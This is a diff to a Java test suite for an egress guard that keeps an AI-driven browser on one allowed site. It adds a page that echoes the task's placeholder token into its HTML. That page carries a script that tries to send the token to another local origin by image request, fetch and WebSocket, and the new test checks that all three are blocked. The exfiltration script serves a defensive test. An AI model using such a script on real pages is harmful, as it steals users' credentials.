@@ -18,6 +18,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestMethodOrder;
 
 import java.util.List;
+import java.util.Map;
 import java.util.Optional;
 import java.util.Set;
 import java.util.concurrent.CopyOnWriteArrayList;
@@ -39,6 +40,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
  */
 @TestMethodOrder(MethodOrderer.OrderAnnotation.class)
 class EgressGuardTest {
+    static final String TOKEN = "DPoP eyJhbGciOiJFUzI1NiJ9.task-token.sig";
     static HttpServer site;
     static HttpServer helper;
     static java.net.ServerSocket elsewhere;
@@ -90,6 +92,14 @@ class EgressGuardTest {
                 case "/worker" -> send(ex, 200, "text/html", "<title>worker</title><p>x</p><script>"
                         + "navigator.serviceWorker.register('/sw.js').then(function(){document.title='registered';},"
                         + "function(e){document.title='refused';});</script>");
+                // A site that echoes request headers back into the page (a debug page, a misconfigured proxy).
+                case "/echo" -> send(ex, 200, "text/html", "<title>echo</title><p id=t>"
+                        + ex.getRequestHeaders().getFirst("Authorization") + "</p><script>"
+                        + "var t=encodeURIComponent(document.getElementById('t').textContent);"
+                        + "new Image().src='" + away + "/stolen.png?t='+t;"
+                        + "fetch('" + away + "/stolen?t='+t,{mode:'no-cors'}).catch(function(){});"
+                        + "try{new WebSocket('ws://127.0.0.1:" + elsewhere.getLocalPort() + "/stolen?t='+t);}catch(e){}"
+                        + "</script>");
                 case "/moves-itself" -> send(ex, 200, "text/html", "<title>moves</title><p>x</p><script>"
                         + "setTimeout(function(){location.href='" + help + "/moved?d=secret';},10);</script>");
                 default -> send(ex, 200, "text/html", "<title>home</title><p>home</p>");
@@ -99,7 +109,10 @@ class EgressGuardTest {
         Task task = new Task("t", "Test task", allowed, allowed.toString(), Optional.empty(), Set.of("read"),
                 List.of(Origin.parse(help)));
         Attribution who = new Attribution(new Human("alice", "Alice"), new AssistantIdentity("assistant-t", "A"), task, "s");
-        session = TestBrowser.start(who, ScriptedPrompt.always(false), allowed + "/", new BrowserListener() {
+        // The task's token, DPoP-bound as the broker issues it, for the task's site only.
+        session = TestBrowser.start(who, ScriptedPrompt.always(false), (method, url) -> Origin.of(url.toString())
+                .filter(allowed::equals).isPresent() ? Map.of("Authorization", TOKEN, "DPoP", "proof-for-" + method)
+                : Map.of(), allowed + "/", new BrowserListener() {
             @Override
             public void onBlocked(AssistantAction action, Decision decision) {
                 blocked.add(action.kind() + " " + action.url() + (action.label().isEmpty() ? "" : " (" + action.label() + ")")
@@ -226,6 +239,18 @@ class EgressGuardTest {
 
     @Test
     @Order(7)
+    void aTokenTheSiteEchoesIntoThePageCannotBeCarriedOff() throws Exception {
+        load("/echo");
+        assertEquals(TOKEN, browser.evaluate("document.getElementById('t').textContent").get(),
+                "the site echoed the token into the page (the hole this guards against)");
+        assertBlocked("REQUEST " + away() + "/stolen.png?t=");
+        assertBlocked("REQUEST " + away() + "/stolen?t=");
+        // A WebSocket carrying it is refused at the egress proxy (above, by elsewhere seeing nothing at all).
+        assertEquals(List.of(), elsewhereSaw, "the echoed token left the browser");
+    }
+
+    @Test
+    @Order(8)
     void everyDenialIsInTheAuditAndElsewhereNeverSawAConnection() throws Exception {
         assertEquals(List.of(), elsewhereSaw, "another origin was reached");
         waitUntil("the denials reached the audit", () -> {
